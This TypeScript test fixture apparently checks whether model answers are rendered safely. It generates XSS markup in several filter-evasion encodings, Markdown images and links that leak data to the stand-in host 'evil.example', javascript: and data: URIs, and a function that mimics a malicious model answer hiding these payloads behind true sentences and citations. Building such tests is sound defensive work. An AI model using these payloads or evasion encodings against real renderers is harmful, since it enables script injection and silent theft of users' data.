import { HOSTILE_MARKUP } from "./hostile-markup.ts";

type Spelling = { name: string; spell: (markup: string) => string };

/** The ways in which markup is hidden from filters, each of which some reader turns back into markup. */
const SPELLINGS: readonly Spelling[] = [
  { name: "as it is", spell: (markup) => markup },
  { name: "as entities", spell: (markup) => entities(markup) },
  { name: "as entities of entities", spell: (markup) => entities(entities(markup)) },
  {
    name: "as numbers",
    spell: (markup) => [...markup].map((each) => `&#x${each.codePointAt(0)?.toString(16)};`).join(""),
  },
  { name: "in percent", spell: (markup) => encodeURIComponent(markup) },
  { name: "with hidden characters", spell: (markup) => [...markup].join("\u200b").replaceAll("i", "i\u00ad") },
  { name: "in wide letters", spell: (markup) => markup.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e") },
  { name: "in upper case", spell: (markup) => markup.replaceAll(/<[a-z]+/g, (tag) => tag.toUpperCase()) },
];

const ADDRESS = "https://evil.example/leak?q=secret";
/** Markdown that helpdesks and dashboards tend to render: images and links that carry words away. */
const MARKDOWN: readonly string[] = [
  `![logo](${ADDRESS})`,
  `![logo][1]\n\n[1]: ${ADDRESS}`,
  `[![logo](${ADDRESS})](${ADDRESS})`,
  `[open](${ADDRESS})`,
  `[open][ref]\n\n[ref]: ${ADDRESS} "title"`,
  `[open]( <${ADDRESS}> )`,
  `<${ADDRESS}>`,
  `[open](javascript:hostileMarkupRan('markdown'))`,
  `[open](JaVaScRiPt&colon;hostileMarkupRan('markdown'))`,
  `[open](data:text/html;base64,PHNjcmlwdD4=)`,
  `**[bold](${ADDRESS})**`,
  `\`<img src=x onerror=hostileMarkupRan('code')>\``,
  `[x]: ${ADDRESS}\n<img class=evil src=x onerror=hostileMarkupRan('definition')>`,
];

/** Every trick in every spelling: 15 kinds of markup times 8 spellings, and Markdown. */
export const HOSTILE_SAYINGS: readonly string[] = [
  ...new Set([...HOSTILE_MARKUP.flatMap(({ markup }) => SPELLINGS.map(({ spell }) => spell(markup))), ...MARKDOWN]),
];

/** The sayings in equal heaps, so that few pages hold all of them. */
export function heaps(count: number): string[][] {
  const size = Math.ceil(HOSTILE_SAYINGS.length / count);
  return Array.from({ length: count }, (_, at) => HOSTILE_SAYINGS.slice(at * size, (at + 1) * size));
}

/**
 * What a malicious model answers: a true sentence, then each saying by itself, behind the true sentence, in its quote
 * and in its sources, and in a list of steps.
 */
export function maliciousAnswer(truth: string, sayings: readonly string[]): string {
  const sentences = sayings.flatMap((saying) => [
    { text: saying, passages: ["p1", saying.slice(0, 40)], quote: saying.slice(0, 2_000) },
    { text: `${truth} ${saying}`, passages: ["p1"], quote: truth },
  ]);
  const blocks = chunk(sentences, 50).map((each, at) => ({
    type: at % 2 === 0 ? "paragraph" : "steps",
    sentences: each,
  }));
  const first = { type: "paragraph", sentences: Array.from({ length: 60 }, () => ({ text: truth, passages: ["p1"] })) };
  return JSON.stringify({ kind: "answer", blocks: [first, first, ...blocks] });
}

function chunk<Item>(items: readonly Item[], size: number): Item[][] {
  return Array.from({ length: Math.ceil(items.length / size) }, (_, at) => items.slice(at * size, (at + 1) * size));
}

function entities(text: string): string {
  return text
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;")
    .replaceAll("'", "&#39;");
}
